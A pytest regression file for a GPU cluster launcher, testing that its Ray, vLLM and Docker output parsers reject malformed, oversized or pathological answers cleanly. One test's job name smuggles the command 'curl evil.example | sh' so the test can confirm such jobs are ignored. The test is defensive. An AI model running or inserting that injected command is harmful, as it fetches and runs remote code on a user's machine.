"""Regressions: answers that once caused a traceback or an endless loop."""

from __future__ import annotations

import json
import time
from collections.abc import Callable
from typing import Any

import pytest

from launcher.batch import job_store
from launcher.core.domain import Answer
from launcher.core.errors import UnreadableAnswer
from launcher.hosts import pairs
from launcher.hosts.discovery import local_assets
from launcher.network import network_plan
from launcher.tools import ray, vllm
from launcher.tools.docker import docker_output
from launcher.tools.host import gpu_survey, host_output
from launcher.tools.site import ray_judges, serving_judges
from launcher.tools.site.ray_judges import parse_payload
from tests import supervision
from tests.hostile import seeds


def answer(body: object) -> Answer:
    return Answer(node="gpu01", code=0, out=body if isinstance(body, str) else json.dumps(body))


def rows(*items: Any) -> list[Any]:
    return list(items)


def usage(text: str) -> str:
    return f"Active:\n 1 node_a\n\nTotal Usage:\n {text}\n"


@pytest.mark.parametrize(
    "read",
    [
        lambda: ray.parse_nodes(rows({"node_id": "a", "node_ip": [], "state": "ALIVE"})),
        lambda: ray.parse_nodes(rows(1)),
        lambda: ray.parse_ranks(rows({"name": 5, "state": "ALIVE"}), ()),
        lambda: ray.parse_ranks(
            rows({"name": "vllm_Worker_a1", "state": "ALIVE", "node_id": [1]}), ()
        ),
        lambda: ray.parse_status("Active:\n " + "9" * 5000 + " node_a\n"),
        lambda: parse_payload(answer({"jobs": None})),
        lambda: parse_payload(answer({"jobs": [{"submission_id": 1, "status": "RUNNING"}]})),
        lambda: parse_payload(answer({"offset": 10**30})),
        lambda: docker_output.parse_containers(
            json.dumps([{"Name": "/a", "Id": {}, "Config": {}, "State": {}}])
        ),
        lambda: docker_output.parse_containers(
            '[{"Name": "/a", "Id": "b", "Config": {}, "State": {"ExitCode": 1e999}}]'
        ),
        lambda: docker_output.parse_containers("[" * 100_000),
        lambda: pairs.parse_probes(answer("[" * 100_000)),
        lambda: host_output.parse_probe(
            "@@vlaunch home\n/\n@@vlaunch rc 0\n@@vlaunch addr\n"
            + "[" * 100_000
            + "\n@@vlaunch rc 0\n"
            "@@vlaunch containers\n\n@@vlaunch rc 0\n"
        ),
        lambda: job_store.parse_outputs(
            "n1", json.dumps({"files": [{"path": "summary.json", "bytes": 10**400, "sha256": ""}]})
        ),
        lambda: job_store.parse_follow(answer({"job": {"status": "RUNNING"}, "offset": -1})),
    ],
)
def test_unreadable_answers(read: Callable[[], Any]) -> None:
    """One of our errors, not a traceback."""
    with pytest.raises(UnreadableAnswer):
        read()


def test_invalid_figures() -> None:
    """They are omitted."""
    assert (
        vllm.parse_capacity(
            {"kv_cache_size_tokens": "inf", "kv_cache_max_concurrency": "nan"}
        ).tokens
        is None
    )
    assert (
        vllm.parse_capacity(
            {}, "KV cache size: , tokens\nMaximum concurrency for 1 tokens per request: 1.2.3x"
        ).concurrency
        is None
    )
    assert vllm.find_exception("") is None
    assert ray.parse_status(usage("1.2.3/4 GPU")).gpus_total is None
    assert (
        serving_judges.busy_gpus(
            {"groups": rows({"state": "CREATED", "bundles": 5}), "actors": rows({"state": "ALIVE"})}
        )
        == 0
    )
    assert serving_judges.claimed_gpus({"metadata": {serving_judges.GPUS: "inf"}}) == 0


def test_a_name_with_a_command() -> None:
    """Such a job is ignored: hints name jobs, and people run hints."""
    job = seeds.job(
        "batch-1", {serving_judges.NAME: "x; curl evil.example | sh", serving_judges.GPUS: "1"}
    )
    row = {**supervision.server_row(supervision.make_spec()), "name": "x; curl evil.example | sh"}
    assert serving_judges.gpu_users(supervision.head_report(row)) == []
    assert serving_judges.job_gpu_users({"jobs": [job]}) == []
    assert serving_judges.active_batches({"jobs": [job]}) == []


def test_invalid_file_sizes() -> None:
    """Only valid sizes are kept: a transfer resumes at that offset."""
    entry = job_store.parse_entry(answer({**seeds.ENTRY, "inputs": {"a": -5, "b": True, "c": 3}}))
    assert dict(entry.inputs) == {"c": 3}


def test_a_report_of_another_node() -> None:
    """It is discarded."""
    report = json.dumps({"node": "gpu02", "backend": "gloo"})
    assert network_plan.parse_answers({"gpu01": [answer(report)]}) == (
        {},
        {"gpu01": "the network probe's report is from another node"},
    )


@pytest.mark.parametrize("changes", [{"local": "-1"}, {"local": ""}, {"prefixlen": 129}])
def test_an_invalid_address(changes: dict[str, Any]) -> None:
    """Checks compare addresses, so the node's answer is unreadable."""
    text = dict(seeds.probes())["gpu01"]
    parts = text.split("@@vlaunch addr\n")
    rows, mark, rest = parts[1].partition("\n@@vlaunch")
    links = json.loads(rows)
    links[0]["addr_info"][0].update(changes)
    with pytest.raises(UnreadableAnswer):
        host_output.parse_probe(f"{parts[0]}@@vlaunch addr\n{json.dumps(links)}{mark}{rest}")


def test_an_invalid_token() -> None:
    """It would be copied to every node, and redacted from all output."""
    text = dict(seeds.probes())["gpu01"].replace(
        "@@vlaunch token\ntok", "@@vlaunch token\n" + "status \n" * 9
    )
    assert host_output.parse_probe(text).token == ""


def test_invalid_image_tags() -> None:
    """Tags of a host's image that are no text are ignored."""
    item = {"Id": "a", "RootFS": {}, "Config": {}, "RepoTags": [1, "vllm:1"]}
    assets = local_assets.parse_local_assets(
        f"@@stock home {'9' * 5000} /d\n@@stock images\n{json.dumps([item])}\n@@stock end\n"
    )
    assert list(assets.images) == ["vllm:1"]
    assert assets.homes[0].free is None


def test_endless_spaces() -> None:
    """No pattern backtracks over them."""
    began = time.thread_time()
    gpu_survey.parse_processes("GPU-x, 1," + " " * 200_000)
    assert time.thread_time() - began < 2


def test_known_fields_have_a_type() -> None:
    """Unknown fields are the caller's concern."""
    ray_judges.check_fields({"servers": 5, "new": []}, "it")
    with pytest.raises(UnreadableAnswer, match="`offset`"):
        ray_judges.check_fields({"offset": "200"}, "it")


@pytest.mark.parametrize(
    ("payload", "field"),
    [
        ({"jobs": [{"submission_id": "a"}]}, "`jobs.0.status` is missing"),
        ({"jobs": [{"status": "RUNNING"}]}, "`jobs.0.submission_id` is missing"),
        ({"jobs": [{"submission_id": "a", "status": None}]}, "`jobs.0.status` cannot be None"),
        ({"job": None}, "`job` cannot be None"),
        ({"offset": 2**62}, "`offset` cannot be"),
        ({"left": [1, True]}, "`left.1` cannot be True"),
    ],
)
def test_missing_required_fields(payload: dict[str, Any], field: str) -> None:
    """A job in a list must have a state and an ID."""
    with pytest.raises(UnreadableAnswer, match=field):
        ray_judges.check_fields(payload, "it")
    ray_judges.check_fields({"job": {"status": None}, "jobs": []}, "it")
